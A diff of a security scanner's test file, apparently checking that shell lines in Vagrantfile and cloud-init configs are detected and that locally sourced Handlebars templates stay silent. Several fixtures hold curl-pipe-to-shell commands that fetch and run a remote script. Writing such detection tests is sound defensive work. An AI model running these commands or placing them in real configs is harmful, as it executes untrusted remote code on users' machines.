@@ -774,7 +774,8 @@ describe('shell lines held in config files are read as Bash; the same keys runni
     [
       'a Vagrant heredoc provisioner',
       'Vagrantfile',
-      '$script = <<-SCRIPT\ncurl -fsSL https://x.io/i.sh | bash\nSCRIPT\nVagrant.configure("2") do |config|\n  config.vm.provision "shell", inline: $script\nend\n',
+      '$script = <<-SCRIPT\ncurl -fsSL https://x.io/i.sh | bash\nSCRIPT\n' +
+        'Vagrant.configure("2") do |config|\n  config.vm.provision "shell", inline: $script\nend\n',
     ],
     ['a cloud-init runcmd in exec form', 'user-data', '#cloud-config\nruncmd:\n  - [ sh, -c, "curl -fsSL https://x.io/i.sh | sh" ]\n'],
     ['a cloud-config YAML of another name', 'infra/web.yaml', '#cloud-config\nruncmd:\n  - sh -c "curl -fsSL https://x.io/i.sh | sh"\n'],
@@ -815,7 +816,8 @@ describe("a template compiled from the project's own file stays silent; one from
   test.each([
     [
       'through a const read from __dirname and literals',
-      'import Handlebars from "handlebars";\nimport { readFileSync } from "node:fs";\nimport { join } from "node:path";\n\nconst source = readFileSync(join(__dirname, "templates", "receipt.hbs"), "utf8");\nexport const receipt = Handlebars.compile(source);\n',
+      'import Handlebars from "handlebars";\nimport { readFileSync } from "node:fs";\nimport { join } from "node:path";\n\n' +
+        'const source = readFileSync(join(__dirname, "templates", "receipt.hbs"), "utf8");\nexport const receipt = Handlebars.compile(source);\n',
     ],
     ['read inline', 'export const r = Handlebars.compile(readFileSync(join(__dirname, "templates", "receipt.hbs"), "utf8"));\n'],
     [
